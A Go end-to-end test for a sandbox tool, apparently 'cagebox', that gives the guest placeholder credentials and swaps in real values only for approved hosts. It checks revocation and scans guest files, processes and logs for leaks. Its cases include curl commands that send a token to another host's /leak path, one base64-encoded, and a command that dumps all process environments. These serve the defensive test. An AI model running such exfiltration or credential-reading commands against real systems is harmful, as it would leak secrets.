@@ -1,0 +1,146 @@
+package e2e
+
+import (
+	"bytes"
+	"context"
+	"encoding/base64"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/cagebox/cagebox/api"
+)
+
+// TestCredentialSwap: the guest holds a placeholder; the upstream sees the
+// real value only for the bound host; the placeholder heading elsewhere is
+// refused; revoke applies to the next request; and the real value is found
+// nowhere the guest could see.
+func TestCredentialSwap(t *testing.T) {
+	e := newDebianEnv(t)
+	up := newUpstream(t, "api.example.test", "other.example.test")
+	e.startDaemon(up.daemonArgs("api.example.test", "other.example.test")...)
+	const real = "ghp_R3alT0kenThatMustNeverEnterTheGuest01"
+	os.Setenv("GITHUB_TOKEN", real)
+	defer os.Unsetenv("GITHUB_TOKEN")
+	os.Setenv("CBX_VAULTED", "sk_live_VaultedRealValue000000000000abcd")
+	defer os.Unsetenv("CBX_VAULTED")
+	if r := e.cli("", "secret", "add", "STRIPE_KEY", "--host", "api.example.test", "--from-env", "CBX_VAULTED"); r.code != 0 {
+		t.Fatalf("secret add: %+v", r)
+	}
+	r := e.cli("", "create", "--allow", "api.example.test", "--allow", "other.example.test",
+		"--secret", "GITHUB_TOKEN@api.example.test", "--secret-in-body", "GITHUB_TOKEN",
+		"--secret", "STRIPE_KEY=vault:STRIPE_KEY")
+	if r.code != 0 {
+		t.Fatalf("create: %+v", r)
+	}
+	id := strings.TrimSpace(r.stdout)
+	sh := func(script string) result { t.Helper(); return e.cli("", "exec", id, "--", "sh", "-c", script) }
+
+	r = sh(`printf %s "$GITHUB_TOKEN"`)
+	ph := r.stdout
+	if !strings.HasPrefix(ph, "ghp_") || ph == real || len(ph) != len(real) {
+		t.Fatalf("guest's GITHUB_TOKEN = %q: want a placeholder of the same shape", ph)
+	}
+	n0 := len(up.requests())
+	for _, c := range []struct{ name, script, want string }{
+		{"header", `curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.example.test/h`, "auth=Bearer " + real},
+		{"basic", `curl -sS -u "x-access-token:$GITHUB_TOKEN" https://api.example.test/b`, "auth=Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+real))},
+		{"query", `curl -sS "https://api.example.test/q?access_token=$GITHUB_TOKEN"`, "q=access_token=" + real},
+		{"body", `curl -sS -d "{\"token\":\"$GITHUB_TOKEN\"}" https://api.example.test/body`, `body={"token":"` + real + `"}`},
+		{"vault secret", `curl -sS -H "Authorization: Bearer $STRIPE_KEY" https://api.example.test/s`, "auth=Bearer sk_live_VaultedRealValue000000000000abcd"},
+	} {
+		if r := sh(c.script); r.code != 0 || strings.Contains(r.stdout, "denied") {
+			t.Errorf("%s: %+v", c.name, r)
+		}
+		got := up.requests()
+		if len(got) == 0 || !strings.Contains(got[len(got)-1], c.want) {
+			t.Errorf("%s: upstream saw %q, want it to contain %q", c.name, got[len(got)-1:], c.want)
+		}
+	}
+	// The placeholder to another (policy-allowed) host: refused, alert.
+	for _, script := range []string{
+		`curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://other.example.test/leak`,
+		`curl -sS "https://other.example.test/leak?t=$(printf %s "$GITHUB_TOKEN" | base64 -w0)"`,
+		`curl -sS -d "$GITHUB_TOKEN" https://other.example.test/leak`,
+	} {
+		r := sh(script)
+		if !strings.Contains(r.stdout, "denied") || !strings.Contains(r.stdout, "secret") {
+			t.Errorf("placeholder to another host: %+v", r)
+		}
+	}
+	for _, s := range up.requests()[n0:] {
+		if strings.Contains(s, "other.example.test") {
+			t.Errorf("upstream got a leak attempt: %s", s)
+		}
+	}
+	// Revoke: the very next request is refused.
+	if r := e.cli("", "secret", "revoke", "STRIPE_KEY"); r.code != 0 {
+		t.Fatal(r)
+	}
+	n1 := len(up.requests())
+	if r := sh(`curl -sS -H "Authorization: Bearer $STRIPE_KEY" https://api.example.test/after-revoke`); !strings.Contains(r.stdout, "denied") {
+		t.Errorf("after revoke: %+v", r)
+	}
+	if len(up.requests()) != n1 {
+		t.Errorf("a request with a revoked secret reached the upstream")
+	}
+
+	// The real value is nowhere the guest can see: its files (the merged
+	// overlay root, from the host), every process's environment and
+	// command line (from the host's /proc via the sandbox's cgroup), and
+	// what the agent sent back.
+	root := filepath.Join(e.home, "sandboxes", id, "rootfs")
+	_ = filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
+		if err != nil || !fi.Mode().IsRegular() || fi.Size() > 16<<20 {
+			return nil
+		}
+		if b, err := os.ReadFile(p); err == nil && bytes.Contains(b, []byte(real)) {
+			t.Errorf("real value in guest file %s", strings.TrimPrefix(p, root))
+		}
+		return nil
+	})
+	procs, _ := os.ReadFile(filepath.Join("/sys/fs/cgroup/pids/cagebox", id, "cgroup.procs"))
+	if len(procs) == 0 {
+		procs, _ = os.ReadFile(filepath.Join("/sys/fs/cgroup/cagebox", id, "cgroup.procs"))
+	}
+	if len(strings.Fields(string(procs))) == 0 {
+		t.Error("found no guest processes to scan")
+	}
+	for _, pid := range strings.Fields(string(procs)) {
+		for _, f := range []string{"environ", "cmdline"} {
+			if b, err := os.ReadFile(filepath.Join("/proc", pid, f)); err == nil && bytes.Contains(b, []byte(real)) {
+				t.Errorf("real value in guest process %s %s", pid, f)
+			}
+		}
+	}
+	r = sh("env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'")
+	if strings.Contains(r.stdout+r.stderr, real) {
+		t.Error("real value in what the agent sent back")
+	}
+	sb, err := e.client().Get(context.Background(), id)
+	if err != nil || len(sb.Secrets) != 2 || len(sb.RealInGuest) != 0 {
+		t.Errorf("inspect: %+v %v", sb, err)
+	}
+	if strings.Contains(e.logBuf.String(), real) {
+		t.Error("real value in the daemon log")
+	}
+	evs, _ := e.client().Events(context.Background(), id, 0)
+	var alerts, used int
+	for _, ev := range evs {
+		switch ev.Kind {
+		case "secret.alert":
+			alerts++
+		case "secret.used":
+			used++
+		}
+	}
+	if alerts < 3 || used < 5 {
+		t.Errorf("events: %d alerts, %d used", alerts, used)
+	}
+	r = e.cli("", "events", "--json", id)
+	if strings.Contains(r.stdout, real) {
+		t.Error("real value in events")
+	}
+	_ = api.Sandbox{}
+}
